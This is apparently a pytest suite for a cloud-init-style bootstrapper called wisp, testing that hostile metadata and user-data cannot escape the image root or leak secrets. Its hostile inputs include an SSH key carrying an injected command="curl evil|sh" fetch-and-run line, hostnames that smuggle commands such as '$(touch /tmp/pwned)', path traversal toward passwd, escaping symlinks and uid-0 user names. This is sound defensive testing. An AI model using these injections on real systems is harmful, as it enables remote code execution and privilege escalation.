"""Hostile metadata and user-data, as an attacker who controls them would send it. Each
test asserts the file tree afterwards: nothing written outside the intended path (a
"host" directory beside the root stands for the machine running wisp --root), modes as
promised, and no token or user-data byte in any log."""

import os
import shutil
import stat as stat_module

import pytest

from conftest import ED25519, aws_metadata, snapshot
from test_userdata_parts import multipart

TOKEN = "TOKENMARKdGhpcyBpcyBub3QgYSByZWFsIHRva2Vu"
# Every document below carries this, so a log holding any of it is caught.
SECRET = "USERDATAMARK-7f3a"


def mode(path):
    return stat_module.S_IMODE(path.lstat().st_mode)


@pytest.fixture
def host(tmp_path):
    """A directory outside the root, holding what an escape would touch."""
    directory = tmp_path / "host"
    (directory / "etc").mkdir(parents=True)
    (directory / "etc/passwd").write_text("host-root:x:0:0::/root:/bin/sh\n")
    (directory / "root").mkdir()
    return directory


def logs_of(root, result):
    text = result.stdout + result.stderr
    for name in ("var/log/wisp.log", "var/log/user-data.log"):
        if (root / name).exists():
            text += (root / name).read_text(errors="replace")
    return text


def check_aftermath(root, host, host_before, result):
    """What every hostile run must leave: the host untouched, secrets kept secret."""
    assert snapshot(host) == host_before, "something was written outside the root"
    text = logs_of(root, result)
    assert TOKEN not in text and SECRET not in text, text
    for name in ("var/lib/cloud/user-data", "var/lib/cloud/.meta-data"):
        if (root / name).exists():
            assert mode(root / name) == 0o600, name
    assert mode(root / "etc/shadow") == 0o640
    keys = root / "home/alpine/.ssh/authorized_keys"
    if keys.exists():
        assert mode(keys) == 0o600 and mode(keys.parent) == 0o700
    assert not list(root.rglob("*.wisp-new"))


def hostile_run(run, imds, root, host, user_data=None, **metadata):
    before = snapshot(host)
    if user_data is not None:
        metadata["user_data"] = f"#cloud-config\n# {SECRET}\n{user_data}"
    imds(aws_metadata(token=TOKEN, **metadata))
    result = run("bootstrap", root=root)
    check_aftermath(root, host, before, result)
    return result


@pytest.mark.parametrize("name, problem", [
    ("a/b", "hostname"),
    ("..", "hostname"),
    ("x;reboot", "hostname"),
    ("$(touch /tmp/pwned)", "hostname"),
    ("ok\nevil", "hostname"),
    ("a" * 300, "hostname"),
])
def test_hostile_host_names(run, imds, root, host, name, problem):
    # A bad host name is left out with a warning naming it (one bad datum never stops the
    # bootstrap); nothing of it is written anywhere.
    result = hostile_run(run, imds, root, host, hostname=name, local_hostname=name)
    # (`..` has no label at all: it reads as no host name.)
    assert result.rc == 0 and "main/set_hostname: ok: " in result.stderr, result
    assert "left as it is" in result.stderr.split("main/set_hostname: ok: ", 1)[1].split("\n", 1)[0]
    assert name == ".." or ("warning: set_hostname: " in result.stderr and ": left out" in result.stderr)
    assert (root / "etc/hostname").read_text() == "localhost\n"
    assert "127.0.1.1" not in (root / "etc/hosts").read_text()
    assert result.hostname != name


def test_key_with_an_injected_command_line(run, imds, root, host):
    injected = f'{ED25519}\ncommand="curl evil|sh" {ED25519}'
    result = hostile_run(run, imds, root, host, f"ssh_authorized_keys:\n  - {injected!r}\n".replace("'", '"'))
    assert result.rc == 1, result
    keys = root / "home/alpine/.ssh/authorized_keys"
    assert not keys.exists() or "command=" not in keys.read_text()


@pytest.mark.parametrize("path", ["/etc/../../host/etc/passwd", "/../host/x", "/etc/./x", "/opt//x"])
def test_write_files_path_with_dot_dot(run, imds, root, host, path):
    # The entry is left out with a warning naming it; the rest of the document applies.
    result = hostile_run(run, imds, root, host, f"write_files:\n  - path: {path}\n    content: {SECRET}\n")
    assert result.rc == 0 and "write_files: path must be an absolute file path" in result.stderr, result
    assert not (root / "opt").exists() and not (root / "host").exists()


@pytest.mark.parametrize("target", ["host/etc", "host/root", "/etc", "../../../../../../etc"])
def test_write_files_through_a_symlinked_parent(run, imds, root, host, target):
    # An absolute link to the host, an absolute link meant for the image's /etc, and a
    # relative one climbing out: none is followed.
    link_target = str(host.parent / target) if target.startswith("host") else target
    (root / "opt").mkdir()
    os.symlink(link_target, root / "opt/lnk")
    result = hostile_run(run, imds, root, host, f"write_files:\n  - path: /opt/lnk/x\n    content: {SECRET}\n")
    assert result.rc == 1, result
    assert "main/userdata_write_files: failed" in result.stderr and "a symlink in the path is refused" in result.stderr
    assert os.readlink(root / "opt/lnk") == link_target
    # No file x anywhere, inside the root or out of it.
    assert not [p for p in root.rglob("x") if p.name == "x"] and not (root / "etc/x").exists()
    assert all(SECRET.encode() not in p.read_bytes() for p in root.rglob("*") if p.is_file() and not p.is_symlink()
               and p.name != "user-data")


def test_write_files_symlink_at_the_file_is_replaced_not_followed(run, imds, root, host):
    (root / "opt").mkdir()
    os.symlink(host / "etc/passwd", root / "opt/x")
    result = hostile_run(run, imds, root, host, "write_files:\n  - path: /opt/x\n    content: mine\n")
    assert result.rc == 0, result
    assert not (root / "opt/x").is_symlink() and (root / "opt/x").read_text() == "mine"
    assert mode(root / "opt/x") == 0o644


def test_home_directory_that_is_a_symlink(run, imds, root, host):
    os.symlink(host / "root", root / "home/alpine")
    result = hostile_run(run, imds, root, host)
    assert result.rc == 1, result
    assert "main/create_default_user: failed" in result.stderr or "main/set_ssh_keys: failed" in result.stderr
    assert os.path.islink(root / "home/alpine")


@pytest.mark.parametrize("link", ["home", "var/lib/cloud", "var"])
def test_system_directory_that_is_a_symlink_out_of_the_root(run, imds, root, host, link):
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    if (root / link).exists():
        shutil.rmtree(root / link)
    os.symlink(host / "root", root / link)
    # The command prints nothing: what a script prints is its own output, not wisp's log.
    result = hostile_run(run, imds, root, host, f"runcmd: [': {SECRET}']\n")
    assert result.rc != 0, result
    assert os.path.islink(root / link)
    # The symlink was resolved inside the root (host/root under it), or refused: never
    # followed out of it.
    inside = root / str(host / "root").lstrip("/")
    assert not inside.exists() or not any(inside.rglob("authorized_keys"))


def test_symlink_inside_the_root_is_followed_inside_it(run, imds, root, host):
    # An image's own /home -> /srv/home (absolute, meant for the image) resolves under
    # the root: the keys land in R/srv/home, not in the host's /srv.
    (root / "srv/home").mkdir(parents=True)
    os.rmdir(root / "home")
    os.symlink("/srv/home", root / "home")
    result = hostile_run(run, imds, root, host)
    assert result.rc == 0, result
    keys = root / "srv/home/alpine/.ssh/authorized_keys"
    assert ED25519 in keys.read_text() and mode(keys) == 0o600


def test_init_script_is_looked_up_inside_the_root(run, imds, root, host):
    # enable_sshd asks whether the image has /etc/init.d/sshd. An absolute symlink there
    # names the image's own file: resolved under the root, where nothing is, so sshd is
    # not enabled, though the same path exists on the machine running wisp --root.
    (host / "sshd-init").write_text("#!/sbin/openrc-run\n")
    os.remove(root / "etc/init.d/sshd")
    os.symlink(host / "sshd-init", root / "etc/init.d/sshd")
    result = hostile_run(run, imds, root, host)
    assert result.rc == 0, result
    assert "boot/enable_sshd: ok: no /etc/init.d/sshd" in result.stderr, result.stderr
    assert not os.path.lexists(root / "etc/runlevels/default/sshd")


def test_init_script_symlink_inside_the_root_is_followed(run, imds, root, host):
    # The same link to a file the image has is followed inside it: sshd is enabled.
    target = root / str(host / "sshd-init").lstrip("/")
    target.parent.mkdir(parents=True)
    target.write_text("#!/sbin/openrc-run\n")
    os.remove(root / "etc/init.d/sshd")
    os.symlink(host / "sshd-init", root / "etc/init.d/sshd")
    result = hostile_run(run, imds, root, host)
    assert result.rc == 0, result
    assert os.readlink(root / "etc/runlevels/default/sshd") == "/etc/init.d/sshd"


@pytest.mark.parametrize("user, problem", [
    ("name: ../../root", "a user or group name starts with '.'"),
    ("name: ../root", "a user or group name starts with '.'"),
    ("name: a/b", "a user or group name holds more than letters"),
    ("name: '-o'", "a user or group name starts with '-'"),
    ("name: 'x:0:0'", "a user or group name holds more than letters"),
    ("{name: evil, uid: 0}", "uid 0 is root's: refused"),
    ("{name: bob, homedir: /home/../root}", "homedir must be an absolute path"),
])
def test_hostile_user_names_refused_before_anything(run, imds, root, host, user, problem):
    passwd = (root / "etc/passwd").read_text()
    entry = user if user.startswith("{") else "{" + user + "}"
    result = hostile_run(run, imds, root, host, f"users:\n  - default\n  - {entry[:-1]}, ssh_authorized_keys: [{ED25519!r}]}}\n")
    assert result.rc == 1, result
    assert problem in result.stderr, result.stderr
    # Validation runs before any user-data action: only the metadata's default user came.
    lines = (root / "etc/passwd").read_text().splitlines()
    assert lines[:len(passwd.splitlines())] == passwd.splitlines() and len(lines) == len(passwd.splitlines()) + 1
    assert not (root / "root").exists() and not (root / "home/root").exists()
    assert not (root / "etc/sudoers.d").exists()


@pytest.mark.parametrize("name, problem", [("root", "the account exists with uid 0: refused"),
                                           ("sshd", "an existing system account: refused"),
                                           ("bin", "an existing system account: refused")])
def test_existing_privileged_account_refused(run, imds, root, host, name, problem):
    passwd = (root / "etc/passwd").read_text()
    result = hostile_run(run, imds, root, host, f"users:\n  - default\n  - name: {name}\n    ssh_authorized_keys: [{ED25519!r}]\n    sudo: ALL=(ALL) NOPASSWD:ALL\n")
    assert result.rc == 1 and f"user {name}: {problem}" in result.stderr, result
    assert not (root / "root").exists() and not (root / "dev/null/.ssh").exists()
    assert [line for line in (root / "etc/passwd").read_text().splitlines() if not line.startswith("alpine:")] == passwd.splitlines()
    assert not (root / "etc/sudoers.d/wisp-users").exists()


def test_mime_part_filename_with_a_slash(run, imds, root, host):
    marker = root / "ran-marker"
    # User-data runs chrooted into the root.
    script = f"#!/bin/sh\n# {SECRET}\necho ran > /{marker.name}\n"
    document = multipart(("text/x-shellscript", script, 'Content-Disposition: attachment; filename="../../../host/evil"\n'),
                         ("text/x-shellscript", script, 'Content-Disposition: attachment; filename="/etc/profile.d/x.sh"\n'))
    before = snapshot(host)
    imds(aws_metadata(token=TOKEN, user_data=document.decode()))
    result = run("bootstrap", root=root)
    check_aftermath(root, host, before, result)
    assert result.rc == 0, result
    scripts = sorted(p.name for p in (root / "var/lib/cloud/scripts").iterdir() if p.is_file())
    assert scripts == ["part-001", "part-002"], scripts
    assert not (root / "etc/profile.d").exists() and not (root / "host").exists()
    assert marker.read_text() == "ran\n"


def test_sudoers_rule_does_not_depend_on_an_earlier_run(run, imds, root, host):
    # The first run makes /etc/sudoers.d for carol's rule; a rerun (a crash, a failed
    # runcmd) must decide the wheel rule as the first run did.
    config = "users:\n  - default\n  - {name: carol, sudo: 'ALL=(ALL) ALL'}\nruncmd: [exit 3]\n"
    result = hostile_run(run, imds, root, host, config)
    assert result.rc == 1, result
    first = snapshot(root / "etc")
    assert (root / "etc/sudoers.d/wheel").read_text() == "%wheel ALL=(ALL) NOPASSWD: ALL\n"
    # The rerun finishes the bootstrap: runcmd ran (and failed) once, and is not run again.
    result = run("bootstrap", root=root)
    assert result.rc == 0, result
    assert snapshot(root / "etc") == first



def test_no_sudoers_rule_without_the_directory_or_rules(run, imds, root, host):
    # Without sudo rules and without the directory, neither the first run nor a rerun
    # writes one.
    result = hostile_run(run, imds, root, host, "users: [default, carol]\nruncmd: [exit 3]\n")
    assert result.rc == 1, result
    first = snapshot(root / "etc")
    assert run("bootstrap", root=root).rc == 0
    assert not (root / "etc/sudoers.d").exists() and snapshot(root / "etc") == first


def test_mount_point_through_a_symlink(run, imds, root, host):
    # R/mnt -> the host: a tmpfs there would cover a host directory.
    os.symlink(host / "root", root / "mnt")
    result = hostile_run(run, imds, root, host, "mounts:\n  - [tmpfs, /mnt/scratch, tmpfs, \"size=1m\"]\n")
    assert result.rc == 1 and "a symlink in the path is refused" in result.stderr, result
    assert not (host / "root/scratch").exists() and os.path.islink(root / "mnt")
    mounts = open("/proc/self/mountinfo").read()
    assert str(host) not in mounts


def test_seed_directory_linking_out_of_the_root(run, root, host):
    # An image's NoCloud seed directory pointing at the host: its files are not read.
    (host / "seed").mkdir()
    (host / "seed/meta-data").write_text("instance-id: host-secret\nlocal-hostname: host-file\n")
    (host / "seed/user-data").write_text(f"#!/bin/sh\n# {SECRET}\ntouch {host}/ran\n")
    (root / "var/lib/cloud/seed").mkdir(parents=True)
    os.symlink(host / "seed", root / "var/lib/cloud/seed/nocloud")
    (root / "etc/wisp.conf").write_text((root / "etc/wisp.conf").read_text().replace("CLOUD=auto", "CLOUD=nocloud"))
    before = snapshot(host)
    result = run("bootstrap", root=root)
    check_aftermath(root, host, before, result)
    assert result.rc != 0 and "host-file" not in result.stderr, result
    assert not (host / "ran").exists() and not (root / "var/lib/cloud/user-data").exists()
